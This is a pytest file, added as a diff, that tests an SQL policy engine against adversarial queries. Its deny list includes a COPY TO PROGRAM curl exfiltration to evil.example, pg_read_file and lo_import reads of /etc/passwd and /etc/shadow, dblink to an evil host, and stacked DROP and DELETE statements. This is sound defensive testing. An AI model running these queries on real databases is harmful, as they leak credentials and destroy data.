@@ -1,0 +1,174 @@
+"""The SQL analyser and engine against tricks: each must be decided correctly, and what the
+analyser does not understand must be denied."""
+
+import pytest
+
+from interceptor.decision import Verdict
+from interceptor.operations import Request, SqlQuery, Subject
+from interceptor.policy import PolicyEngine, analyse, load_policy_text
+
+POLICY = """
+version: 1
+resources:
+  db: {protocol: postgres, addresses: ["127.0.0.1:5432"]}
+agents:
+  bot: {}
+rules:
+  - {name: read-public, effect: allow, agents: [bot], sql: {kinds: [select], tables: ["public.*"]}}
+  - {name: read-secret-denied, effect: deny, sql: {kinds: [select], tables: [secret.*]}}
+  - {name: update-orders, effect: approve, sql: {kinds: [update], tables: [public.orders]},
+     approval: {groups: [dba-oncall]}}
+  - {name: mask-card, effect: mask, mask: {columns: [public.customers.card], style: partial}}
+"""
+
+
+class Catalog:
+    tables = {("public", "customers"): ["id", "name", "card"], ("public", "orders"): ["id", "status"],
+              ("secret", "keys"): ["id", "key"], ("sales", "orders"): ["id"]}
+
+    def columns(self, schema, table):
+        return self.tables.get((schema, table))
+
+
+@pytest.fixture(scope="module")
+def engine():
+    return PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"), Catalog())
+
+
+def decide(engine, text, **labels):
+    return engine.decide(Request(Subject("bot"), "db", SqlQuery(text), labels))
+
+
+ALLOWED = [
+    "SeLeCt id FrOm public.orders",
+    "select id /* ; drop table x; */ from orders -- ; delete from orders\n where status = ';'",
+    "select $$;delete from orders;$$, $tag$ ' ; $tag$ from orders",
+    'select "id" from "public"."orders"',
+    "select id from orders; select name from customers",
+    "select 1",
+    "BEGIN; select id from orders; COMMIT",
+    "SAVEPOINT s1",
+    "RELEASE SAVEPOINT s1",
+]
+DENIED = {
+    'select * from "Public"."Orders"': "default-deny",  # quoted: a different table than public.orders
+    'select * from "PUBLIC".orders': "default-deny",
+    'select U&"\\0069d" from orders': "sql-not-understood",
+    "select id from orders; drop table orders": "default-deny",
+    "select 1; delete from orders where id = ';'": "default-deny",
+    "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x": "default-deny",
+    "select id from orders where id in (with d as (delete from orders returning id) select id from d)": "default-deny",
+    "SELECT * INTO stolen FROM orders": "default-deny",
+    "SELECT * FROM customers FOR UPDATE": "default-deny",
+    "COPY orders TO PROGRAM 'curl -d @- evil.example'": "default-deny",
+    "COPY orders FROM '/etc/passwd'": "default-deny",
+    "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))": "builtin-dangerous-functions",
+    "SELECT set_config('search_path', 'secret', false)": "builtin-dangerous-functions",
+    "select * from pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
+    "select pg_catalog.pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
+    'select "pg_read_file"(\'/etc/passwd\')': "builtin-dangerous-functions",
+    "select id from orders where exists (select lo_import('/etc/shadow'))": "builtin-dangerous-functions",
+    "select * from dblink('host=evil', 'select 1') as t(a int)": "builtin-dangerous-functions",
+    "select pg_terminate_backend(1)": "builtin-dangerous-functions",
+    "EXPLAIN ANALYZE DELETE FROM orders": "default-deny",
+    "explain (analyze, format json) delete from orders": "default-deny",
+    "TRUNCATE orders": "default-deny",
+    "CALL cleanup()": "sql-opaque-statement",
+    "VACUUM orders": "sql-opaque-statement",
+    "LISTEN ch": "sql-opaque-statement",
+    "NOTIFY ch, 'x'": "sql-opaque-statement",
+    "SET statement_timeout = 0": "default-deny",
+    "RESET ALL": "sql-opaque-statement",
+    "SHOW search_path": "sql-opaque-statement",
+    "SET ROLE postgres": "sql-opaque-statement",
+    "SET SESSION AUTHORIZATION postgres": "sql-opaque-statement",
+    "PREPARE p AS DELETE FROM orders": "sql-opaque-statement",
+    "EXECUTE p": "sql-opaque-statement",
+    "DEALLOCATE p": "sql-opaque-statement",
+    "DO $$ BEGIN DELETE FROM orders; END $$": "sql-opaque-statement",
+    "select id from orders; DO $x$ BEGIN DELETE FROM orders; END $x$": "sql-opaque-statement",
+    "select * from secret.keys": "read-secret-denied",
+    "select (select key from secret.keys limit 1)": "read-secret-denied",
+    "select id from orders where id in (select id from secret.keys)": "read-secret-denied",
+    "create view v as select * from secret.keys": "read-secret-denied",
+    "select from": "sql-not-understood",
+    "select 'unterminated": "sql-not-understood",
+    "CHECKPOINT": "sql-opaque-statement",
+    "CLUSTER orders": "sql-opaque-statement",
+    "SECURITY LABEL ON TABLE orders IS 'x'": "sql-opaque-statement",
+    "select id from customers where card like '4%'": "mask-card",
+    "select id from customers order by card": "mask-card",
+    "select name from customers where id in (select id from customers where card = '1')": "mask-card",
+    "insert into orders (status) select card from customers": "default-deny",
+    "select * from sales.orders": "default-deny",
+    "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE": "default-deny",
+    "GRANT ALL ON orders TO public": "default-deny",
+    "LOCK TABLE orders": "sql-opaque-statement",
+}
+
+
+@pytest.mark.parametrize("text", ALLOWED)
+def test_allowed(engine, text):
+    decision = decide(engine, text)
+    assert decision.verdict is Verdict.ALLOW, (decision.rule, decision.reason)
+
+
+@pytest.mark.parametrize("text,rule", sorted(DENIED.items()))
+def test_denied(engine, text, rule):
+    decision = decide(engine, text)
+    assert decision.verdict is Verdict.DENY, decision
+    assert decision.rule == rule, decision.reason
+
+
+def test_for_update_needs_update_permission(engine):
+    assert decide(engine, "select id from orders for update").verdict is Verdict.APPROVE
+
+
+def test_explain_analyze_update_is_judged_as_the_update(engine):
+    decision = decide(engine, "EXPLAIN ANALYZE UPDATE orders SET status = 'x'")
+    assert decision.verdict is Verdict.APPROVE and decision.rule == "update-orders"
+
+
+def test_search_path_label_and_set_search_path(engine):
+    assert decide(engine, "select id from orders", search_path="sales").verdict is Verdict.DENY
+    assert decide(engine, "set search_path to secret; select * from keys").verdict is Verdict.DENY
+    statements = analyse("SET search_path TO secret, public; select key from keys")
+    assert statements[0].search_path == ("secret", "public")
+    assert statements[1].actions[0].table == ("secret", "keys")
+
+
+def test_schema_qualified_beats_search_path():
+    (statement,) = analyse("select id from public.orders", ("secret",))
+    assert [a.table for a in statement.actions] == [("public", "orders")]
+
+
+def test_cte_names_are_not_tables():
+    (statement,) = analyse("with orders as (select 1 as id) select id from orders", ("secret",))
+    assert [a.table for a in statement.actions] == [None]
+
+
+def test_masked_outputs_follow_expressions_and_ctes(engine):
+    decision = decide(engine, "with c as (select upper(card) as k, id from customers) select id, k from c")
+    assert decision.verdict is Verdict.ALLOW
+    assert decision.masks[0].columns == ("public.customers.card",)
+    assert decision.details[0]["masked_outputs"] == [
+        {"position": 1, "name": "k", "columns": ["public.customers.card"], "rules": ["mask-card"]}]
+
+
+def test_star_is_expanded_from_the_catalog(engine):
+    decision = decide(engine, "select * from customers")
+    assert [o["position"] for o in decision.details[0]["masked_outputs"]] == [2]
+
+
+def test_unknown_schema_with_masks_fails_closed():
+    engine = PolicyEngine(load_policy_text(POLICY, "adversarial.yaml"))  # no catalog
+    decision = decide(engine, "select * from customers")
+    assert decision.verdict is Verdict.DENY and "unknown" in decision.reason
+    assert decide(engine, "select id, name from customers").verdict is Verdict.ALLOW
+
+
+def test_one_denied_statement_denies_the_query_and_details_cover_all(engine):
+    decision = decide(engine, "select id from orders; update orders set status = 'x'; truncate orders")
+    assert decision.verdict is Verdict.DENY
+    assert [d["verdict"] for d in decision.details] == ["allow", "approve", "deny"]
+    assert decision.details[2]["kind"] == "truncate"
